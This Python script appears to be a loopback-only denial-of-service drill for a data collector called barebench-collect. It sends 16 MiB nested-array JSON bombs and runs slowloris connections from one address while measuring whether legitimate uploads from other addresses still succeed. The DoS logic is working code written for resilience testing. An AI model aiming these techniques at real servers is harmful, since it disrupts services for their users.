#!/usr/bin/env python3
"""collect_attack.py - denial-of-service drill for barebench-collect (loopback only, bounded):
from ONE attacker address, BOMBS connections each sending 16 MiB documents of nested empty
arrays one after the other (the first ones connect before anything else) and SLOW slowloris
connections (a request head trickled one byte every 3 s, reconnecting a second after being cut
or refused), all along; from other addresses, 6 s in (past the first head deadline), LEGIT
uploads of a real document, each from its own address and within the image's budgets
(connect 5 s, whole exchange 20 s).  Prints one line per upload and bomb, the slowloris
counts and a summary; stops by itself (at most about 70 s).
  collect_attack.py HOST PORT DOC SLOW BOMBS LEGIT [TOKEN]"""
import json, selectors, socket, sys, threading, time, uuid
sys.dont_write_bytecode = True  # importing collect_client leaves no __pycache__ behind
from collect_client import upload as exchange

host, port, doc_path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
n_slow, n_bombs, n_legit = int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6])
token = sys.argv[7] if len(sys.argv) > 7 else ""
assert host == "127.0.0.1", "loopback only"
assert n_legit <= 200, "one source address each: 127.0.0.3 .. 127.0.0.202"
ATTACKER = "127.0.0.2"
TRICKLE_S, LEGIT_AT_S, MIN_S, END_S = 3, 6.0, 14, 60
BOMB = b"[" + b",".join([b"[]"] * ((16 << 20) // 3)) + b"]"   # 16 MiB, 5.6 million arrays
base = json.load(open(doc_path))
out_lock = threading.Lock()
t_start = time.monotonic()

legit, bombs = [], []

def upload(i):
    time.sleep(max(0, LEGIT_AT_S - (time.monotonic() - t_start)))
    doc = dict(base)
    doc["tool"] = dict(base["tool"], run_id=uuid.uuid4().hex, tag=f"legit{i}")
    src = f"127.0.0.{3 + i}"
    st, why, secs = exchange(host, port, json.dumps(doc).encode(), src, token)
    with out_lock:
        legit.append((i, src, st, why, secs))

def bomb(i, stop):
    while not stop.is_set() and time.monotonic() - t_start < END_S:
        st, why, secs = exchange(host, port, BOMB, ATTACKER, token, total_s=40)
        with out_lock:
            bombs.append((i, st, why, secs))
        if st == 0:
            time.sleep(1)

def slowloris(stop):
    """n_slow connections from ATTACKER, each trickling a head; counts what the collector did."""
    sel = selectors.DefaultSelector()
    counts = {"opened": 0, "cut": 0, "refused": 0, "max_open": 0}
    retry_at = [0.0] * n_slow
    slots = [None] * n_slow
    trickle = b"POST / HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 10000
    while not stop.is_set() and time.monotonic() - t_start < END_S:
        now = time.monotonic()
        for k in range(n_slow):
            if slots[k] is None and now >= retry_at[k]:
                s = socket.socket()
                s.setblocking(False)
                s.bind((ATTACKER, 0))
                try:
                    s.connect((host, port))
                except BlockingIOError:
                    pass
                except OSError:
                    s.close(); counts["refused"] += 1; retry_at[k] = now + 1; continue
                slots[k] = [s, 0, now]          # socket, bytes sent, next send time
                sel.register(s, selectors.EVENT_READ, k)
                counts["opened"] += 1
        open_now = sum(1 for x in slots if x is not None)
        counts["max_open"] = max(counts["max_open"], open_now)
        for key, _ in sel.select(timeout=0.2):
            k = key.data
            s = slots[k][0]
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:                         # the collector closed it: cut or refused
                sel.unregister(s); s.close()
                counts["cut" if slots[k][1] > 0 else "refused"] += 1
                slots[k] = None; retry_at[k] = time.monotonic() + 1
        now = time.monotonic()
        for k in range(n_slow):
            x = slots[k]
            if x is not None and now >= x[2] and x[1] < len(trickle):
                try:
                    x[0].send(trickle[x[1]:x[1] + 1]); x[1] += 1
                except OSError:
                    pass                          # reported as a close by select
                x[2] = now + TRICKLE_S
    for x in slots:
        if x is not None:
            x[0].close()
    with out_lock:
        print(f"slowloris from {ATTACKER}: {counts['opened']} connections opened, "
              f"{counts['cut']} cut off by the collector, {counts['refused']} refused at once, "
              f"at most {counts['max_open']} open at a time", flush=True)

stop = threading.Event()
bth = [threading.Thread(target=bomb, args=(i, stop)) for i in range(n_bombs)]
for t in bth: t.start()
time.sleep(0.2)                                   # the first bombs are connected
sth = threading.Thread(target=slowloris, args=(stop,)); sth.start()
lth = [threading.Thread(target=upload, args=(i,)) for i in range(n_legit)]
for t in lth: t.start()
for t in lth: t.join()
time.sleep(max(2, MIN_S - (time.monotonic() - t_start)))  # the slowloris go on past the uploads
stop.set(); sth.join()
for t in bth: t.join()
answers = {}
for i, st, why, secs in bombs:
    answers[st] = answers.get(st, 0) + 1
first = {}
for i, st, why, secs in bombs:
    first.setdefault(st, f"{why[:100]} ({secs:.2f} s)")
for st in sorted(answers):
    print(f"bombs from {ATTACKER}: {answers[st]} answered {st or 'nothing (refused, reset)'}, "
          f"the first: {first[st]}")
for i, src, st, why, secs in sorted(legit):
    print(f"legit {i} from {src}: {st} {why[:80]} ({secs:.2f} s)")
ok = [r for r in legit if r[2] == 201]
times = sorted(r[4] for r in legit)
print(f"summary: {len(ok)} of {n_legit} legitimate uploads stored (201), median "
      f"{times[len(times) // 2]:.2f} s, slowest {times[-1]:.2f} s")
